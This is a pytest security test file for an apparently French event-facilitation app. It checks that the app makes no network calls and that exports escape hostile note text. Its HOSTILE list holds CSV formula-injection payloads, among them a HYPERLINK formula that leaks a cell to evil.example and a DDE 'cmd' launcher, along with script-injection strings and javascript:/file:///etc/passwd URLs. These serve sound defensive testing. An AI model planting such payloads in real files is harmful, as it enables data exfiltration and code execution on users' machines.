"""Security of what the app touches: no network ever, hostile text neutralised in every output.

(Paths from kits escaping the kit's folder — ``..``, absolute, symbolic links — are covered by
``test_hostile_kits.py``; exports refusing symbolic links by ``test_exports_failure.py``.)
"""

from __future__ import annotations

import csv
import io
import socket
import sys

import pytest

import kits
from facilitator.errors import OperationError
from facilitator.kit import load_kit
from facilitator.store import EventFile

HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1, \"clic\")",
    "+33 1 02 03 04 05 = cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "<script>alert('note')</script> & <b>gras</b> ]]> {{x}}",
    "**gras** et *italique* mais <font size=80>énorme</font> & <para>",
]


@pytest.fixture
def no_network(monkeypatch):
    """Every way out through a socket raises (and is recorded, in case someone swallows it)."""
    attempts: list[str] = []

    def refuse(name):
        def _refuse(*args, **kwargs):
            attempts.append(f"{name}{args[1:2]}")
            raise OSError(f"accès réseau interdit pendant le test : {name}")
        return _refuse

    for method in ("connect", "connect_ex", "sendto", "sendmsg", "bind", "listen"):
        monkeypatch.setattr(socket.socket, method, refuse(f"socket.{method}"))
    for fn in ("create_connection", "getaddrinfo", "gethostbyname", "create_server"):
        monkeypatch.setattr(socket, fn, refuse(fn))
    yield attempts
    assert attempts == [], f"accès réseau tentés : {attempts}"


def _make(key: str, ev) -> bytes:
    """A document of the event, as every export path makes it (``exports.documents``)."""
    from exports.documents import BY_KEY, Source

    return BY_KEY[key].produce(Source.of_event(ev))


def test_whole_demo_pipeline_runs_with_sockets_disabled(tmp_path, no_network):
    from exports.documents import DOCUMENTS
    from exports.write import write_atomic
    from facilitator.demo import create_demo

    ev = create_demo(tmp_path / "demo.facilitator")
    try:
        outputs = {doc.filename: _make(doc.key, ev) for doc in DOCUMENTS}
    finally:
        ev.close()
    assert len(outputs) == 8
    for name, data in outputs.items():
        assert data, name
        write_atomic(tmp_path / name, data)
    from facilitator.importer import import_json

    import_json(tmp_path / "evenement.json", tmp_path / "reimporte.facilitator")
    with EventFile.open(tmp_path / "reimporte.facilitator") as again:
        assert again.notes()
    # the HTML fetches nothing either: no external resource, only links
    html = outputs["restitution.html"].decode("utf-8")
    for pattern in ("<script src", "<link rel=\"stylesheet\" href=\"http", "@import", "<img src=\"http"):
        assert pattern not in html


def test_no_network_module_is_imported_by_the_core(tmp_path):
    """The core never even imports an HTTP client."""
    import subprocess

    code = ("import sys, facilitator.cli, facilitator.store, facilitator.kit, facilitator.demo;"
            "bad = [m for m in ('urllib.request', 'http.client', 'requests', 'httpx', 'urllib3') if m in sys.modules];"
            "print(bad); sys.exit(1 if bad else 0)")
    r = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
    assert r.returncode == 0, r.stdout + r.stderr


@pytest.fixture
def hostile_event(tmp_path):
    kit = load_kit(kits.kit_path("forum-open-etat-2021-2"))
    ev = EventFile.create(tmp_path / "hostile.facilitator", kit)
    w, s = kit.workshops[0].number, kit.sections[0].id
    for text in HOSTILE:
        ev.add_note(w, s, text)
    yield ev
    ev.close()


def test_only_http_urls_are_accepted_in_notes(hostile_event):
    ev = hostile_event
    w, s = ev.kit.workshops[0].number, ev.kit.sections[0].id
    for url in ("javascript:alert(1)", "file:///etc/passwd", "data:text/html,<script>", "ftp://x.org/a"):
        with pytest.raises(OperationError):
            ev.add_note(w, s, "lien", urls=[url])


def test_csv_formula_injection_is_neutralised(hostile_event):
    data = _make("csv", hostile_event).decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(data)) for c in row]
    for text in HOSTILE:
        assert text not in cells or not text.startswith(("=", "+", "-", "@", "\t", "\r")), text
    for c in cells:
        assert not c.startswith(("=", "+", "-", "@", "\t", "\r")), c
    assert any("HYPERLINK" in c for c in cells)  # neutralised, not dropped


def test_html_and_markdown_escape_note_text(hostile_event):
    html = _make("html", hostile_event).decode("utf-8")
    assert "<script>alert" not in html and "&lt;script&gt;" in html
    assert "<font size=80>" not in html
    md = _make("markdown", hostile_event).decode("utf-8")
    assert "<script>alert" not in md


def test_pdf_renders_markup_characters_as_text(hostile_event):
    pypdf = pytest.importorskip("pypdf")
    pdf = _make("restitution", hostile_event)
    text = "".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(pdf)).pages)
    assert "<script>" in text.replace("\n", "")  # shown as typed, not interpreted
